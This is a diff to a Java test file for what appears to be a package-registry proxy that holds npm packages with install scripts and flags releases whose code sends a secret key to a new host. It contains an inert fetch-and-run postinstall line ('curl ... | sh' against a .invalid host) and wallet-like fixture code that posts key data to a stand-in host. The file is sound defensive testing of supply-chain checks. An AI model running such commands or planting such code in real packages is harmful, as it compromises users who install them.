@@ -2,6 +2,8 @@ package dev.warden.proxy;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.databind.JsonNode;
+
 import dev.warden.storage.Upstreams.IngestedVersion;
 
 import org.junit.jupiter.api.Test;
@@ -23,6 +25,16 @@ class PolicyIngestTest {
     /** Inert: a script that would fetch and run, from a host under .invalid; never executed. */
     private static final String FETCH_AND_RUN =
             "\"postinstall\":\"curl -s https://cdn.example.invalid/x.sh | sh\"";
+
+    /** Inert: code that keeps a private key and names a host under .invalid (a wallet library). */
+    private static final String KEYS =
+            "const { Keypair } = require('./keypair');\n"
+                    + "function fromSecretKey(secretKey) {\n"
+                    + "  return new Keypair(secretKey);\n"
+                    + "}\n"
+                    + "async function rpc(body) {\n"
+                    + "  return fetch('https://api.mainnet.invalid', { method: 'POST', body });\n"
+                    + "}\n";
 
     @TempDir Path dir;
 
@@ -82,6 +94,52 @@ class PolicyIngestTest {
     }
 
     @Test
+    void aPackageJsonTooLargeToReadCountsAsRunningScriptsWhenDenied() throws Exception {
+        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
+            // A postinstall padded past the 8 MiB that is read of a package.json.
+            String padded =
+                    "{\"name\":\"pad\",\"version\":\"1.0.0\","
+                            + "\"scripts\":{\"postinstall\":\"node x.js\"}"
+                            + " ".repeat(9 << 20)
+                            + "}";
+            f.up.publish(
+                    "pad",
+                    "1.0.0",
+                    Tgz.of("pad", "1.0.0").file("package.json", padded).bytes(),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("pad", "1.0.0");
+
+            assertThat(row.state()).isEqualTo("held");
+            assertThat(row.reason())
+                    .isEqualTo(
+                            "install scripts are not allowed: pad@1.0.0's tarball cannot be read"
+                                    + " for them (its package.json is larger than 8 MiB), so it"
+                                    + " counts as running them (proxy.install_scripts_allow lists"
+                                    + " the packages that may)");
+        }
+    }
+
+    @Test
+    void aTarballThatDoesNotUnpackCountsAsRunningScriptsWhenDenied() throws Exception {
+        try (Fixture f = new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of())) {
+            f.up.publish(
+                    "broken",
+                    "1.0.0",
+                    "not a gzip stream".getBytes(java.nio.charset.StandardCharsets.UTF_8),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("broken", "1.0.0");
+
+            assertThat(row.state()).isEqualTo("held");
+            assertThat(row.reason())
+                    .startsWith(
+                            "install scripts are not allowed: broken@1.0.0's tarball cannot be"
+                                    + " read for them (the tarball cannot be unpacked: ");
+        }
+    }
+
+    @Test
     void installScriptsOfAnAllowedPackageAreServed() throws Exception {
         try (Fixture f =
                 new Fixture(dir, ProxySettings.UnsignedUpstream.ALLOW, true, List.of("esbuild"))) {
@@ -128,6 +186,111 @@ class PolicyIngestTest {
                     .contains("install-script-fetches-and-runs");
             assertThat(f.verified(row).path("verified").path("review").path("action").asText())
                     .isIn("hold", "quarantine");
+        }
+    }
+
+    @Test
+    void theReviewComparesWithThePreviousVersionFetchedFromTheUplink() throws Exception {
+        try (Fixture f = new Fixture(dir)) {
+            // 1.0.0 was never asked for through the proxy: its tarball is the review's baseline.
+            f.up.publish(
+                    "wallet",
+                    "1.0.0",
+                    Tgz.of("wallet", "1.0.0").file("lib.js", KEYS).bytes(),
+                    daysAgo(f, 30));
+            String more = "function sign(secretKey) { return rpc(secretKey.length); }\n";
+            f.up.publish(
+                    "wallet",
+                    "1.0.1",
+                    Tgz.of("wallet", "1.0.1").file("lib.js", KEYS + more).bytes(),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("wallet", "1.0.1");
+
+            assertThat(row.reason()).isNull();
+            assertThat(row.state()).isEqualTo("served");
+            assertThat(f.verified(row).path("verified").path("review").path("baseline").asText())
+                    .isEqualTo("1.0.0");
+            assertThat(f.row("wallet", "1.0.0")).isEmpty();
+            assertThat(f.eventKinds()).doesNotContain("review.flagged");
+        }
+    }
+
+    @Test
+    void theBaselineIsTheReleaseThisOneFollowsNotAPatchOfAnOldLinePublishedJustBefore()
+            throws Exception {
+        try (Fixture f = new Fixture(dir)) {
+            f.up.publish(
+                    "wallet",
+                    "2.0.0",
+                    Tgz.of("wallet", "2.0.0").file("lib.js", KEYS).bytes(),
+                    daysAgo(f, 30));
+            // a patch of the old 1.x line, published after 2.0.0, has none of 2.x's code
+            f.up.publish(
+                    "wallet",
+                    "1.9.9",
+                    Tgz.of("wallet", "1.9.9").file("lib.js", "module.exports = 1;\n").bytes(),
+                    daysAgo(f, 10));
+            f.up.publish(
+                    "wallet",
+                    "2.0.1",
+                    Tgz.of("wallet", "2.0.1").file("lib.js", KEYS).bytes(),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("wallet", "2.0.1");
+
+            assertThat(row.state()).isEqualTo("served");
+            assertThat(f.verified(row).path("verified").path("review").path("baseline").asText())
+                    .isEqualTo("2.0.0");
+        }
+    }
+
+    @Test
+    void aHoldOnlyTheMissingBaselineExplainsIsAFlag() throws Exception {
+        try (Fixture f = new Fixture(dir)) {
+            f.up.publish(
+                    "wallet",
+                    "1.0.0",
+                    Tgz.of("wallet", "1.0.0").file("lib.js", KEYS).bytes(),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("wallet", "1.0.0");
+
+            assertThat(row.state()).isEqualTo("served");
+            JsonNode review = f.verified(row).path("verified").path("review");
+            assertThat(review.path("action").asText()).isEqualTo("flag");
+            assertThat(review.path("baseline").asText()).isEqualTo("none");
+            assertThat(f.events())
+                    .anySatisfy(
+                            e -> {
+                                assertThat(e.kind()).isEqualTo("review.flagged");
+                                assertThat(e.detail())
+                                        .startsWith("the release review holds it: ")
+                                        .contains("secret-sent-to-new-host");
+                            });
+        }
+    }
+
+    @Test
+    void aBaselineWhoseBytesAreNotTheOnesItsPackumentNamesIsNone() throws Exception {
+        try (Fixture f = new Fixture(dir)) {
+            f.up.publish(
+                    "wallet",
+                    "1.0.0",
+                    Tgz.of("wallet", "1.0.0").file("lib.js", KEYS).bytes(),
+                    daysAgo(f, 30));
+            f.up.files.put("/wallet/-/wallet-1.0.0.tgz", Tgz.of("wallet", "1.0.0").bytes());
+            f.up.publish(
+                    "wallet",
+                    "1.0.1",
+                    Tgz.of("wallet", "1.0.1").file("lib.js", KEYS).bytes(),
+                    daysAgo(f, 3));
+
+            IngestedVersion row = f.ingest("wallet", "1.0.1");
+
+            assertThat(f.verified(row).path("verified").path("review").path("baseline").asText())
+                    .isEqualTo("none");
+            assertThat(f.eventKinds()).contains("review.flagged");
         }
     }
 
